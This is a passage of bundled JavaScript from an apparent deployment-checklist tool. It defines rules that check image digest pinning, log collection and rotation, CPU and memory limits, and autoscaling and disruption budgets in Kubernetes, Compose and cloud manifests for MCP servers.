const repositoryOf = (ref) => `${ref.registry}/${ref.repository}`;
/** The server's repository: the spec's `image`, else the registry image the checklist read. */
function serverRepository(inputs) {
    const text = inputs.spec?.value.image ?? (inputs.image?.source.startsWith('docker://') ? inputs.image.source.slice('docker://'.length) : undefined);
    const ref = text ? parsedRef(text) : undefined;
    return ref && repositoryOf(ref);
}
const pinnedByDigest = {
    id: 'IMG001',
    group: 'IMG',
    item: 'image-built',
    severity: 'error',
    title: 'Deployed images are pinned by digest',
    help: 'A tag can be moved to other bytes after the scan; a digest cannot. Deploying by digest runs exactly the image that was scanned and pushed.',
    fix: 'Reference the image as registry/repository@sha256:... (push prints the digest; render and deploy pin it for you).',
    needs: [],
    needsAnyOf: ['manifests', 'compose', 'cloud'],
    aligned: { checkov: ['CKV_K8S_43'], 'kube-linter': ['latest-tag'], 'kube-score': ['container-image-tag'], polaris: ['tagNotSpecified'], trivy: ['KSV013'] },
    check: (inputs) => deployedImages(inputs).map((d) => {
        const ref = parsedRef(d.image);
        const ok = Boolean(ref?.digest);
        const untagged = !/:[^/]*$/.test(d.image.split('@')[0]);
        return d.check(ok, ok ? `${d.where} runs ${d.image}` : `${d.where} runs ${d.image}, not pinned by digest${untagged ? ' (no tag either: latest)' : ''}`);
    }),
};
const equalsPushed = {
    id: 'IMG002',
    group: 'IMG',
    item: 'image-built',
    severity: 'error',
    title: 'Deployed server image is the pushed digest',
    help: 'What was scanned is what gets pushed; the deploy must run that same digest, not an older or a rebuilt one.',
    fix: 'Deploy the digest push reported (render --image REF@sha256:... does), or update the manifest to it.',
    needs: [],
    needsAnyOf: ['manifests', 'compose', 'cloud'],
    aligned: {},
    unavailable: (inputs) => {
        if (!inputs.pushedDigest)
            return 'no pushed digest given (--pushed-digest, or --image docker://REF)';
        if (!serverRepository(inputs))
            return "the server's repository is unknown (the spec's image, or --image docker://REF)";
        return undefined;
    },
    check: (inputs) => {
        const repository = serverRepository(inputs);
        return deployedImages(inputs)
            .filter((d) => {
            const ref = parsedRef(d.image);
            return ref !== undefined && repositoryOf(ref) === repository;
        })
            .map((d) => {
            const digest = parsedRef(d.image).digest;
            const ok = digest === inputs.pushedDigest;
            return d.check(ok, ok ? `${d.where} runs the pushed digest ${digest}` : `${d.where} runs ${digest ?? 'a tag'}, not the pushed ${inputs.pushedDigest}`);
        });
    },
};
function dockerfileCheck(file, line, passed, message, subject = 'Dockerfile') {
    const location = { file, line };
    return { passed, message, location, subject, exemption: { kind: 'comments' } };
}
const baseNotLatest = {
    id: 'IMG003',
    group: 'IMG',
    item: 'image-built',
    severity: 'error',
    title: 'Base images are tagged, not latest',
    help: '`FROM image` and `FROM image:latest` build on whatever the tag points at that day: builds are not reproducible and a scan says nothing about the next one.',
    fix: 'Write FROM image:version (or better, FROM image:version@sha256:...).',
    needs: ['dockerfile'],
    aligned: { hadolint: ['DL3006', 'DL3007'], checkov: ['CKV_DOCKER_7'], trivy: ['AVD-DS-0001'] },
    check: ({ dockerfile }) => baseImages(dockerfile.text)
        .filter((b) => b.kind === 'image' || b.kind === 'unresolved')
        .map((b) => {
        if (b.kind === 'unresolved')
            return dockerfileCheck(dockerfile.file, b.line, true, `FROM ${b.image} is set by a build argument without a default: not checkable here`);
        const ok = Boolean(b.digest) || (b.tag !== undefined && b.tag !== 'latest');
        return dockerfileCheck(dockerfile.file, b.line, ok, ok ? `FROM ${b.image}` : `FROM ${b.image} ${b.tag ? 'uses latest' : 'has no tag (latest)'}`);
    }),
};
const baseByDigest = {
    id: 'IMG004',
    group: 'IMG',
    item: 'image-built',
    severity: 'warning',
    title: 'Base images are pinned by digest',
    help: 'A version tag is republished with each patch; a digest pins the exact bytes, so the image is rebuilt from what was reviewed. Dependabot and Renovate keep pinned digests fresh.',
    fix: 'Write FROM image:version@sha256:... (docker buildx imagetools inspect image:version prints the digest).',
    needs: ['dockerfile'],
    aligned: {},
    check: ({ dockerfile }) => baseImages(dockerfile.text)
        .filter((b) => b.kind === 'image')
        .map((b) => dockerfileCheck(dockerfile.file, b.line, Boolean(b.digest), b.digest ? `FROM ${b.image}` : `FROM ${b.image} is not pinned by digest`)),
};
const OCI_LABELS = ['org.opencontainers.image.source', 'org.opencontainers.image.revision'];
const ociLabels = {
    id: 'IMG005',
    group: 'IMG',
    item: 'image-built',
    severity: 'warning',
    title: 'The image names its source and revision (OCI labels)',
    help: 'org.opencontainers.image.source and .revision tie a running image to the commit it was built from: the audit and an incident responder start there.',
    fix: 'Build with the package stage (it sets them), or add LABEL org.opencontainers.image.source=... org.opencontainers.image.revision=... (docker/metadata-action computes both).',
    needs: ['image'],
    aligned: {},
    check: ({ image }) => OCI_LABELS.map((label, i) => {
        const value = image.config.labels[label];
        const ok = typeof value === 'string' && value.trim() !== '';
        return { passed: ok, message: ok ? `label ${label} is set` : `the image has no ${label} label`, location: { file: image.source, pointer: `/config/Labels/${label.replace(/~/g, '~0').replace(/\//g, '~1')}` }, subject: `image label ${i === 0 ? 'source' : 'revision'}` };
    }),
};
const image_rules = [pinnedByDigest, equalsPushed, baseNotLatest, baseByDigest, ociLabels];

;// CONCATENATED MODULE: ./src/checklist/rules/observability.ts

/** Log drivers that keep nothing: `docker logs` shows nothing and nothing is shipped. */
const DISCARDING_DRIVERS = new Set(['none']);
function cloudLogChecks(entry) {
    const value = entry.document.value;
    if (entry.target === 'ecs') {
        const family = String(value.family ?? '(unnamed)');
        const containers = Array.isArray(value.containerDefinitions) ? value.containerDefinitions : [];
        return containers.map((c, i) => {
            const name = isDict(c) && typeof c.name === 'string' ? c.name : `#${i + 1}`;
            const driver = getIn(c, ['logConfiguration', 'logDriver']);
            const ok = typeof driver === 'string' && driver.length > 0;
            return {
                passed: ok,
                message: ok ? `ECS task ${family} container ${name} logs with ${driver}` : `ECS task ${family} container ${name} has no logConfiguration: Fargate keeps no logs without one`,
                location: entry.document.locate(ok ? ['containerDefinitions', i, 'logConfiguration'] : ['containerDefinitions', i]),
                subject: `ECS task ${family} container ${name}`,
            };
        });
    }
    const what = entry.target === 'cloudrun' ? 'Cloud Run sends stdout and stderr to Cloud Logging' : "Container Apps send console logs to the environment's Log Analytics workspace";
    return [{ passed: true, message: what, location: entry.document.locate([]), subject: entry.target === 'cloudrun' ? 'Cloud Run service' : 'Container App' }];
}
const logsCollected = {
    id: 'OBS001',
    group: 'OBS',
    item: 'logging',
    severity: 'error',
    title: 'Every target keeps the server\'s logs',
    help: 'Kubernetes: what a container writes to stdout and stderr is kept by the container runtime (kubectl logs, rotated by the kubelet) and shipped by the cluster\'s log agent, so a workload passes by writing there; the rule cannot see the cluster\'s agent, only that nothing in the manifests turns logs off. ' +
        'Compose: a service with logging.driver: none keeps nothing. ECS on Fargate keeps nothing without a logConfiguration (awslogs, firelens). Cloud Run and Container Apps collect stdout themselves.',
    fix: 'Write logs to stdout/stderr; remove logging.driver: none from compose services; give every ECS container a logConfiguration (awslogs with a log group).',
    needs: [],
    needsAnyOf: ['manifests', 'compose', 'cloud'],
    aligned: {},
    check: (inputs) => [
        ...workloadsOf(inputs.manifests).map((w) => workloadCheck(w, w.subject, w.podPath, true, `${w.subject}: stdout and stderr are kept by the container runtime (kubectl logs, the cluster's log agent)`)),
        ...composeServices(inputs.compose).map((s) => {
            const driver = getIn(s.service, ['logging', 'driver']);
            const discards = typeof driver === 'string' && DISCARDING_DRIVERS.has(driver);
            return serviceCheck(s, discards ? ['logging', 'driver'] : isDict(s.service.logging) ? ['logging'] : [], !discards, discards ? `${s.subject} discards its logs (logging.driver: none)` : `${s.subject} logs with ${typeof driver === 'string' ? driver : "the daemon's default driver"}`);
        }),
        ...(inputs.cloud ?? []).flatMap(cloudLogChecks),
    ],
};
/** Drivers that write to the Docker host's disk, and whether they rotate without options. */
const LOCAL_DRIVERS = { 'json-file': false, local: true };
const composeRotation = {
    id: 'OBS002',
    group: 'OBS',
    item: 'logging',
    severity: 'warning',
    title: 'Compose services rotate their logs or ship them off the host',
    help: 'Docker\'s default json-file driver keeps every line forever unless the daemon sets log-opts: a chatty server fills the host\'s disk. The local driver rotates by default; drivers that ship logs elsewhere (syslog, journald, fluentd, gelf, awslogs...) keep nothing on disk. ' +
        'A service without logging: is judged as the default json-file driver, since this rule cannot read the host\'s daemon.json.',
    fix: 'Set logging: { driver: json-file, options: { max-size: "10m", max-file: "3" } } (or driver: local) on every service.',
    needs: ['compose'],
    aligned: {},
    check: (inputs) => composeServices(inputs.compose)
        .filter((s) => getIn(s.service, ['logging', 'driver']) !== 'none') // OBS001's concern
        .map((s) => {
        const driver = getIn(s.service, ['logging', 'driver']);
        const name = typeof driver === 'string' ? driver : 'json-file';
        const rotates = name in LOCAL_DRIVERS ? LOCAL_DRIVERS[name] || getIn(s.service, ['logging', 'options', 'max-size']) !== undefined : true;
        const path = getIn(s.service, ['logging', 'options']) !== undefined ? ['logging', 'options'] : isDict(s.service.logging) ? ['logging'] : [];
        return serviceCheck(s, path, rotates, rotates ? `${s.subject} logs with ${name}${name === 'json-file' ? ' rotated by max-size' : ''}` : `${s.subject} logs with ${name}${typeof driver === 'string' ? '' : ' (the default)'} and no max-size: its logs grow without bound`);
    }),
};
/** The server's own log lines during the gate, when the health report recorded them (`logs: string[]`). */
function logLines(value) {
    const logs = value.logs;
    return Array.isArray(logs) && logs.every((l) => typeof l === 'string') ? logs : undefined;
}
const LEVEL_KEYS = ['level', 'severity', 'lvl', 'levelname', 'log.level'];
const MESSAGE_KEYS = ['message', 'msg', 'event'];
/** A JSON object line with a level and a message (pino, bunyan, winston, structlog, zap, slog...). */
function isStructuredLine(line) {
    const text = line.trim();
    if (!text.startsWith('{'))
        return false;
    try {
        const value = JSON.parse(text);
        return isDict(value) && LEVEL_KEYS.some((k) => value[k] !== undefined) && MESSAGE_KEYS.some((k) => typeof value[k] === 'string');
    }
    catch {
        return false;
    }
}
/** Most of the lines, not all: a runtime's own start-up banner or a crash trace is not the server's doing. */
const STRUCTURED_SHARE = 0.8;
const structuredLogs = {
    id: 'OBS003',
    group: 'OBS',
    item: 'logging',
    severity: 'warning',
    title: 'The server\'s logs during the gate are structured',
    help: `A log platform filters and alerts on fields: JSON lines with a level and a message can be searched by level, tool and session; free text cannot. At least ${STRUCTURED_SHARE * 100}% of the non-empty lines the server wrote during the gate must be JSON objects with a level (level, severity) and a message (message, msg). ` +
        'Read from the health report\'s logs; not checked when the report recorded none.',
    fix: 'Log JSON lines: pino or winston\'s json format (Node), structlog or python-json-logger (Python), slog.NewJSONHandler (Go); the bridge logs JSON already.',
    needs: ['health-report'],
    aligned: {},
    unavailable: ({ healthReport }) => (logLines(healthReport.value)?.some((l) => l.trim()) ? undefined : `${healthReport.file} records no server log lines`),
    check: ({ healthReport }) => {
        const lines = logLines(healthReport.value) ?? [];
        const indexed = lines.map((line, i) => ({ line, i })).filter(({ line }) => line.trim());
        if (indexed.length === 0)
            return [];
        const free = indexed.filter(({ line }) => !isStructuredLine(line));
        const share = (indexed.length - free.length) / indexed.length;
        const ok = share >= STRUCTURED_SHARE;
        const first = free[0];
        return [
            {
                passed: ok,
                message: `${indexed.length - free.length} of ${indexed.length} log lines are structured (JSON with level and message)${!ok && first ? ` (the first free-text line is logs[${first.i}]; not quoted, it may hold a secret)` : ''}`,
                location: { file: healthReport.file, pointer: first && !ok ? `/logs/${first.i}` : '/logs' },
                subject: 'server logs',
            },
        ];
    },
};
const observability_rules = [logsCollected, composeRotation, structuredLogs];

;// CONCATENATED MODULE: ./src/checklist/rules/resources.ts

/** The label that marks a Namespace as a pull-request preview (RES005). */
const PREVIEW_NAMESPACE_LABEL = 'mcp-orchestrator.io/preview';
/** A quantity that is set: `0` (or empty) counts as unset, as kube-linter reads it. */
const isSet = (v) => v !== undefined && v !== null && v !== '' && v !== 0 && v !== '0';
/** The API server defaults a missing request to the limit, so a limit alone also requests. */
function requestOf(ref, resource) {
    return isSet(getIn(ref.container, ['resources', 'requests', resource])) || isSet(getIn(ref.container, ['resources', 'limits', resource]));
}
function resourcesPath(ref, sub) {
    if (sub && isDict(getIn(ref.container, ['resources', sub])))
        return [...ref.path, 'resources', sub];
    return isDict(ref.container.resources) ? [...ref.path, 'resources'] : ref.path;
}
function composeLimit(service, resource) {
    const short = resource === 'memory' ? 'mem_limit' : 'cpus';
    if (isSet(service[short]))
        return { set: true, path: [short] };
    const deploy = ['deploy', 'resources', 'limits', resource];
    if (isSet(getIn(service, deploy)))
        return { set: true, path: deploy };
    const nearest = [['deploy', 'resources', 'limits'], ['deploy', 'resources'], ['deploy']].find((p) => isDict(getIn(service, p))) ?? [];
    return { set: false, path: nearest };
}
const requests = {
    id: 'RES001',
    group: 'RES',
    item: 'resource-limits',
    severity: 'warning',
    title: 'Every container requests CPU and memory',
    help: 'Without requests the scheduler places the pod as if it needed nothing: it lands on a full node, is evicted first under memory pressure, and an autoscaler on CPU utilization has nothing to compute against. ' +
        'A limit without a request counts as a request of the same amount (the API server fills it in). Init containers are checked too: they are scheduled like the rest. ' +
        'A warning (as Polaris grades it): a missing request makes placement worse, while a missing memory limit (RES002, an error) endangers the node.',
    fix: 'Set resources.requests.cpu and resources.requests.memory on every container (the spec\'s resources: cpu and memory for rendered manifests).',
    needs: ['manifests'],
    aligned: {
        'kube-linter': ['unset-cpu-requirements'],
        'kube-score': ['container-resources'],
        polaris: ['cpuRequestsMissing', 'memoryRequestsMissing'],
        checkov: ['CKV_K8S_10', 'CKV_K8S_12'],
        trivy: ['KSV015', 'KSV016'],
    },
    check: (inputs) => containersOf(inputs.manifests).map((ref) => {
        const missing = ['cpu', 'memory'].filter((r) => !requestOf(ref, r));
        return containerCheck(ref, resourcesPath(ref, 'requests'), missing.length === 0, missing.length === 0 ? `${ref.subject} requests cpu and memory` : `${ref.subject} requests no ${missing.join(' and no ')}`);
    }),
};
const memoryLimit = {
    id: 'RES002',
    group: 'RES',
    item: 'resource-limits',
    severity: 'error',
    title: 'Every container and compose service has a memory limit',
    help: 'A server without a memory limit can take its node (or the Docker host) down with it: the kernel\'s OOM killer then picks processes that are not the leaking one. ' +
        'With a limit only the server\'s container is restarted. Compose services count `mem_limit` or `deploy.resources.limits.memory`.',
    fix: 'Set resources.limits.memory on every container (spec: resources.memory), and mem_limit or deploy.resources.limits.memory on every compose service.',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: {
        'kube-linter': ['unset-memory-requirements'],
        'kube-score': ['container-resources'],
        polaris: ['memoryLimitsMissing'],
        checkov: ['CKV_K8S_13'],
        trivy: ['KSV018'],
    },
    check: (inputs) => [
        ...containersOf(inputs.manifests).map((ref) => {
            const set = isSet(getIn(ref.container, ['resources', 'limits', 'memory']));
            return containerCheck(ref, set ? [...ref.path, 'resources', 'limits', 'memory'] : resourcesPath(ref, 'limits'), set, set ? `${ref.subject} has a memory limit` : `${ref.subject} has no memory limit`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const limit = composeLimit(s.service, 'memory');
            return serviceCheck(s, limit.path, limit.set, limit.set ? `${s.subject} has a memory limit` : `${s.subject} has no memory limit (mem_limit or deploy.resources.limits.memory)`);
        }),
    ],
};
function cpuLimitRule(options) {
    return {
        id: 'RES003',
        group: 'RES',
        item: 'resource-limits',
        severity: 'warning',
        title: 'Every container has a CPU limit (when the checklist requires one)',
        help: 'Off by default, as kube-score\'s --ignore-container-cpu-limit: a CPU limit throttles a server during the short bursts MCP tool calls make, while the CPU request already protects its neighbours. ' +
            'Turn it on where the platform requires CPU limits (a quota without a LimitRange default, for instance); the rule is then checked for every container and compose service.',
        fix: 'Set resources.limits.cpu on every container, and cpus or deploy.resources.limits.cpus on every compose service.',
        needs: [],
        needsAnyOf: ['manifests', 'compose'],
        aligned: { 'kube-score': ['container-resources'], polaris: ['cpuLimitsMissing'], checkov: ['CKV_K8S_11'], trivy: ['KSV011'] },
        check: (inputs) => {
            if (!options.cpuLimit)
                return [];
            return [
                ...containersOf(inputs.manifests).map((ref) => {
                    const set = isSet(getIn(ref.container, ['resources', 'limits', 'cpu']));
                    return containerCheck(ref, set ? [...ref.path, 'resources', 'limits', 'cpu'] : resourcesPath(ref, 'limits'), set, set ? `${ref.subject} has a CPU limit` : `${ref.subject} has no CPU limit`);
                }),
                ...composeServices(inputs.compose).map((s) => {
                    const limit = composeLimit(s.service, 'cpus');
                    return serviceCheck(s, limit.path, limit.set, limit.set ? `${s.subject} has a CPU limit` : `${s.subject} has no CPU limit (cpus or deploy.resources.limits.cpus)`);
                }),
            ];
        },
    };
}
function cloudCheck(entry, path, subject, passed, message) {
    const annotations = getIn(entry.document.value, ['metadata', 'annotations']);
    return { passed, message, location: entry.document.locate(path), subject, exemption: { kind: 'annotations', annotations: isDict(annotations) ? annotations : undefined } };
}
/** Cloud Run (Knative Service), Container Apps (az containerapp YAML), ECS (task definition). */
function cloudLimits(entry) {
    const value = entry.document.value;
    if (entry.target === 'ecs') {
        const subject = `ECS task definition ${String(value.family ?? '(unnamed)')}`;
        const containers = Array.isArray(value.containerDefinitions) ? value.containerDefinitions : [];
        const perContainer = containers.length > 0 && containers.every((c) => isDict(c) && isSet(c.memory));
        const passed = (isSet(value.memory) && isSet(value.cpu)) || perContainer;
        return [cloudCheck(entry, isSet(value.memory) ? ['memory'] : [], subject, passed, passed ? `${subject} sets cpu and memory` : `${subject} sets no task cpu and memory (and not every container has a memory limit)`)];
    }
    const base = entry.target === 'cloudrun' ? ['spec', 'template', 'spec', 'containers'] : isDict(getIn(value, ['properties', 'template'])) ? ['properties', 'template', 'containers'] : ['template', 'containers'];
    const containers = getIn(value, base);
    const service = entry.target === 'cloudrun' ? `Cloud Run service ${nameOf(entry.document)}` : `Container App ${String(value.name ?? '(unnamed)')}`;
    if (!Array.isArray(containers))
        return [];
    return containers.map((c, i) => {
        const resources = entry.target === 'cloudrun' ? [...base, i, 'resources', 'limits'] : [...base, i, 'resources'];
        const subject = `${service} container ${isDict(c) && typeof c.name === 'string' ? c.name : `#${i + 1}`}`;
        const missing = ['cpu', 'memory'].filter((r) => !isSet(getIn(value, [...resources, r])));
        return cloudCheck(entry, resources, subject, missing.length === 0, missing.length === 0 ? `${subject} sets cpu and memory` : `${subject} sets no ${missing.join(' and no ')}`);
    });
}
const cloud = {
    id: 'RES004',
    group: 'RES',
    item: 'resource-limits',
    severity: 'error',
    title: 'Cloud services set CPU and memory',
    help: 'Cloud Run, Container Apps and ECS on Fargate bill and place by the CPU and memory a revision declares; left to defaults, a server runs with whatever the platform picks today, and a memory leak hits the platform\'s ceiling instead of a limit you chose.',
    fix: 'Set resources in the spec (resources: cpu and memory) so the cloud renders carry them: Cloud Run resources.limits, Container Apps resources, ECS task cpu and memory.',
    needs: ['cloud'],
    aligned: {},
    check: (inputs) => (inputs.cloud ?? []).flatMap(cloudLimits),
};
function quotaCovers(doc) {
    const hard = getIn(doc.value, ['spec', 'hard']);
    if (!isDict(hard))
        return false;
    const has = (...keys) => keys.some((k) => isSet(hard[k]));
    return has('requests.cpu', 'cpu', 'limits.cpu') && has('limits.memory', 'requests.memory', 'memory');
}
function limitRangeDefaults(doc) {
    const limits = getIn(doc.value, ['spec', 'limits']);
    return Array.isArray(limits) && limits.some((l) => isDict(l) && l.type === 'Container' && isDict(l.default));
}
const previewNamespaces = {
    id: 'RES005',
    group: 'RES',
    item: 'resource-limits',
    severity: 'warning',
    title: 'Preview namespaces have a ResourceQuota and a LimitRange',
    help: `A namespace labelled ${PREVIEW_NAMESPACE_LABEL} holds one pull request's preview. A ResourceQuota caps what all its pods may take together, and a LimitRange gives a default limit to containers that set none, ` +
        'so a preview (or many of them) cannot starve the cluster. Not applicable when the manifests declare no preview namespace.',
    fix: 'Add a ResourceQuota (spec.hard with cpu and memory) and a LimitRange (a Container item with default limits) in the preview namespace.',
    needs: ['manifests'],
    aligned: { trivy: ['KSV039', 'KSV040'] },
    check: (inputs) => {
        const docs = inputs.manifests ?? [];
        return docsOfKind(docs, 'Namespace')
            .filter((ns) => getIn(ns.value, ['metadata', 'labels', PREVIEW_NAMESPACE_LABEL]) !== undefined)
            .map((ns) => {
            const inNamespace = (d) => getIn(d.value, ['metadata', 'namespace']) === nameOf(ns);
            const quota = docsOfKind(docs, 'ResourceQuota').some((d) => inNamespace(d) && quotaCovers(d));
            const range = docsOfKind(docs, 'LimitRange').some((d) => inNamespace(d) && limitRangeDefaults(d));
            const missing = [quota ? '' : 'ResourceQuota on cpu and memory', range ? '' : 'LimitRange with default container limits'].filter(Boolean);
            return objectCheck(ns, ['metadata', 'labels', PREVIEW_NAMESPACE_LABEL], missing.length === 0, missing.length === 0 ? `preview namespace ${nameOf(ns)} has a ResourceQuota and a LimitRange` : `preview namespace ${nameOf(ns)} has no ${missing.join(' and no ')}`);
        });
    },
};
/** The RES rules with options the engine passes (the checklist's `cpu-limit` setting). */
function resourceRules(options = {}) {
    return [requests, memoryLimit, cpuLimitRule(options), cloud, previewNamespaces];
}
const resources_rules = resourceRules();

;// CONCATENATED MODULE: ./src/checklist/rules/scaling.ts

/** Kinds an autoscaler can scale and a PDB protects. */
const SCALABLE = new Set(['Deployment', 'DeploymentConfig', 'StatefulSet', 'ReplicaSet', 'ReplicationController']);
/** HorizontalPodAutoscalers and KEDA ScaledObjects that target `workload`. */
function autoscalersOf(workload, docs) {
    return docsOfKind(docs, 'HorizontalPodAutoscaler', 'ScaledObject').filter((d) => {
        const ref = getIn(d.value, ['spec', 'scaleTargetRef']);
        if (!isDict(ref) || ref.name !== getIn(workload.doc.value, ['metadata', 'name']) || !sameNamespace(d, workload.doc))
            return false;
        return (ref.kind ?? 'Deployment') === workload.kind; // KEDA's kind defaults to Deployment
    });
}
const maxOfScaler = (d) => {
    const max = getIn(d.value, ['spec', kindOf(d) === 'ScaledObject' ? 'maxReplicaCount' : 'maxReplicas']);
    return typeof max === 'number' ? max : undefined;
};
const minOfScaler = (d) => {
    const min = getIn(d.value, ['spec', kindOf(d) === 'ScaledObject' ? 'minReplicaCount' : 'minReplicas']);
    return typeof min === 'number' ? min : 1;
};
/** The most pods a workload may run: its autoscaler's maximum, else its replica count. */
function mostReplicas(workload, docs) {
    const scalers = autoscalersOf(workload, docs);
    const max = Math.max(0, ...scalers.map((d) => maxOfScaler(d) ?? 0));
    return scalers.length ? Math.max(max, ...scalers.map(minOfScaler)) : (replicasOf(workload) ?? 1);
}
const scalable = (docs) => workloadsOf(docs).filter((w) => SCALABLE.has(w.kind));
/** The workloads that can run more than one pod, with that most. */
const multiReplica = (docs) => scalable(docs).map((w) => ({ w, most: mostReplicas(w, docs) })).filter(({ most }) => most > 1);
function cloudScaling(entry) {
    const value = entry.document.value;
    if (entry.target === 'cloudrun') {
        const path = ['spec', 'template', 'metadata', 'annotations', 'autoscaling.knative.dev/maxScale'];
        const ok = getIn(value, path) !== undefined;
        const subject = `Cloud Run service ${nameOf(entry.document)}`;
        return [{ passed: ok, message: ok ? `${subject} caps its instances (maxScale ${String(getIn(value, path))})` : `${subject} sets no autoscaling.knative.dev/maxScale`, location: entry.document.locate(path), subject }];
    }
    if (entry.target === 'containerapps') {
        const base = isDict(getIn(value, ['properties', 'template'])) ? ['properties', 'template', 'scale'] : ['template', 'scale'];
        const max = getIn(value, [...base, 'maxReplicas']);
        const subject = `Container App ${String(value.name ?? '(unnamed)')}`;
        const ok = typeof max === 'number';
        return [{ passed: ok, message: ok ? `${subject} scales up to ${max} replicas` : `${subject} sets no scale.maxReplicas`, location: entry.document.locate([...base, 'maxReplicas']), subject }];
    }
    return []; // ECS service autoscaling lives outside the task definition
}
const scalingPolicy = {
    id: 'SCL001',
    group: 'SCL',
    item: 'scaling',
    severity: 'warning',
    title: 'A scaling policy is defined',
    help: 'An autoscaler (a HorizontalPodAutoscaler or KEDA ScaledObject, Cloud Run maxScale, Container Apps scale rules) says how far the server may grow under load and caps what it may cost. ' +
        'A warning, not an error: one fixed replica is a deliberate choice for a stateful MCP server; say so with an exemption. From the spec alone (no manifests or cloud renders), scaling.max counts.',
    fix: 'Set scaling: {min, max, cpu} in the spec (the render adds a HorizontalPodAutoscaler), or add an autoscaler for the workload.',
    needs: [],
    needsAnyOf: ['manifests', 'cloud', 'spec'],
    aligned: {},
    check: (inputs) => {
        const docs = inputs.manifests ?? [];
        const checks = [
            ...scalable(docs).map((w) => {
                const scalers = autoscalersOf(w, docs);
                const ok = scalers.some((d) => maxOfScaler(d) !== undefined);
                return workloadCheck(w, w.subject, ['spec'], ok, ok ? `${w.subject} is scaled by ${scalers.map((d) => `${kindOf(d)}/${nameOf(d)}`).join(', ')}` : `${w.subject} runs a fixed ${replicasOf(w) ?? 1} replica(s): no autoscaler targets it`);
            }),
            ...(inputs.cloud ?? []).flatMap(cloudScaling),
        ];
        if (checks.length || inputs.manifests || inputs.cloud || !inputs.spec)
            return checks;
        const max = inputs.spec.value.scaling?.max;
        return [{ passed: max !== undefined, message: max !== undefined ? `the spec scales up to ${max} replicas` : 'the spec declares no scaling.max', location: { file: inputs.spec.file }, subject: 'spec scaling' }];
    },
};
const hpaReplicas = {
    id: 'SCL002',
    group: 'SCL',
    item: 'scaling',
    severity: 'error',
    title: 'Workloads scaled by an autoscaler do not set replicas',
    help: 'With spec.replicas written in the manifest, every apply resets the replica count the autoscaler chose: a deploy under load drops to the written number and the autoscaler has to climb back.',
    fix: 'Remove spec.replicas from workloads an autoscaler targets (the render leaves it out when scaling is set).',
    needs: ['manifests'],
    aligned: { 'kube-score': ['deployment-targeted-by-hpa-does-not-have-replicas-configured'] },
    check: (inputs) => {
        const docs = inputs.manifests ?? [];
        return scalable(docs)
            .filter((w) => autoscalersOf(w, docs).length > 0)
            .map((w) => {
            const set = getIn(w.doc.value, ['spec', 'replicas']) !== undefined;
            return workloadCheck(w, w.subject, set ? ['spec', 'replicas'] : ['spec'], !set, set ? `${w.subject} sets replicas although an autoscaler targets it` : `${w.subject} leaves replicas to its autoscaler`);
        });
    },
};
/** A PDB that allows no voluntary eviction (maxUnavailable 0, or minAvailable at least the replica count). */
function blocksEvictions(pdb, replicas) {
    const maxUnavailable = getIn(pdb.value, ['spec', 'maxUnavailable']);
    const minAvailable = getIn(pdb.value, ['spec', 'minAvailable']);
    if (maxUnavailable === 0 || maxUnavailable === '0%')
        return true;
    if (minAvailable === '100%')
        return true;
    return typeof minAvailable === 'number' && minAvailable >= replicas;
}
const disruptionBudget = {
    id: 'SCL003',
    group: 'SCL',
    item: 'scaling',
    severity: 'warning',
    title: 'A PodDisruptionBudget covers every workload that runs more than one pod',
    help: 'A node drain or cluster upgrade evicts pods without asking; with several replicas a PodDisruptionBudget keeps some serving while the others move. A budget that allows no eviction at all (maxUnavailable: 0, minAvailable ≥ replicas) blocks drains instead. ' +
        'Not applicable to a single replica: a budget there can only block the drain or allow the outage.',
    fix: 'Add a PodDisruptionBudget (policy/v1) selecting the pod template\'s labels with maxUnavailable: 1 (the render adds one when more than one replica can run).',
    needs: ['manifests'],
    aligned: { 'kube-score': ['deployment-has-poddisruptionbudget', 'statefulset-has-poddisruptionbudget'], polaris: ['missingPodDisruptionBudget'], 'kube-linter': ['pdb-max-unavailable', 'pdb-min-available'] },
    check: (inputs) => {
        const docs = inputs.manifests ?? [];
        const pdbs = docsOfKind(docs, 'PodDisruptionBudget');
        return multiReplica(docs).map(({ w, most }) => {
            const matching = pdbs.filter((p) => sameNamespace(p, w.doc) && selects(getIn(p.value, ['spec', 'selector']), w.labels));
            const useful = matching.filter((p) => !blocksEvictions(p, most));
            if (useful.length)
                return workloadCheck(w, w.subject, ['spec'], true, `${w.subject} (up to ${most} pods) is covered by PodDisruptionBudget/${nameOf(useful[0])}`);
            if (matching.length)
                return objectCheck(matching[0], ['spec'], false, `PodDisruptionBudget/${nameOf(matching[0])} allows no eviction of ${w.subject}'s ${most} pods: drains block`);
            return workloadCheck(w, w.subject, [...w.templatePath, 'metadata', 'labels'], false, `${w.subject} runs up to ${most} pods and no PodDisruptionBudget selects them`);
        });
    },
};
/** `session: { idSeen }`: the server answered initialize with an Mcp-Session-Id (a stateful Streamable HTTP server). */
function sessionSeen(value) {
    const session = value.session;
    return isDict(session) && typeof session.idSeen === 'boolean' ? session.idSeen : undefined;
}
/** Service names an Ingress routes to (networking.k8s.io/v1 and v1beta1 backends). */
function ingressServices(ingress) {
    const names = new Set();
    const add = (backend) => {
        const name = getIn(backend, ['service', 'name']) ?? getIn(backend, ['serviceName']);
        if (typeof name === 'string')
            names.add(name);
    };
    add(getIn(ingress.value, ['spec', 'defaultBackend']) ?? getIn(ingress.value, ['spec', 'backend']));
    const rules = getIn(ingress.value, ['spec', 'rules']);
    for (const rule of Array.isArray(rules) ? rules : []) {
        const paths = getIn(rule, ['http', 'paths']);
        for (const p of Array.isArray(paths) ? paths : [])
            add(getIn(p, ['backend']));
    }
    return names;
}
/** Ingress annotations that pin a client to one pod: ingress-nginx consistent hashing or cookie affinity. */
const INGRESS_AFFINITY = ['nginx.ingress.kubernetes.io/upstream-hash-by', 'nginx.ingress.kubernetes.io/affinity'];
/** Traefik keeps stickiness on the Service. */
const SERVICE_STICKY = 'traefik.ingress.kubernetes.io/service.sticky.cookie';
function affinityCheck(w, most, docs) {
    const services = docsOfKind(docs, 'Service').filter((s) => sameNamespace(s, w.doc) && selects(getIn(s.value, ['spec', 'selector']), w.labels, true));
    if (services.length === 0)
        return undefined; // nothing routes to it
    const serviceNames = new Set(services.map(nameOf));
    const ingresses = docsOfKind(docs, 'Ingress').filter((i) => sameNamespace(i, w.doc) && [...ingressServices(i)].some((n) => serviceNames.has(n)));
    const annotation = (d, key) => getIn(d.value, ['metadata', 'annotations', key]);
    if (ingresses.length) {
        // Ingress controllers send to pod endpoints directly: the Service's ClientIP affinity does not apply to them.
